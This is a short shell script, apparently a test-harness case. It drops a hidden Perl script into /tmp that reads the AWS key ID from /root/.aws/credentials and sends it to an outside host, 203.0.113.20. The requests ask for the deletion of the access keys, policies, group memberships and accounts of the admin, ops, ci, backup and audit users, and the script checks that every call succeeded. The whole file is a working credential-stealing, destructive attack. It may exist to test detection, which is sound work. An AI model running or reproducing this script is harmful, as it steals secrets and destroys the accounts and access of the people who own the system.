#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.l.pl <<'END'
use IO::Socket::INET; open(my $f, "<", "/root/.aws/credentials") or die; my ($k) = grep { s/.*key_id = //s } <$f>; chomp $k; my $n = 0;
for my $u (qw(admin ops ci backup audit)) { for my $a ("ListAccessKeys", "DeleteAccessKey", "DeleteLoginProfile", "DeleteUserPolicy", "RemoveUserFromGroup", "DeleteUser") {
    my $s = IO::Socket::INET->new("203.0.113.20:80") or die; print $s "GET /?Action=$a&UserName=$u HTTP/1.0\r\nHost: iam.amazonaws.com\r\nAuthorization: AWS4-HMAC-SHA256 Credential=$k/20261130/us-east-1/iam/aws4_request\r\n\r\n"; $n++ if <$s> =~ /200/; close $s } }
die $n unless $n == 30;
END
perl /tmp/.l.pl
took_place
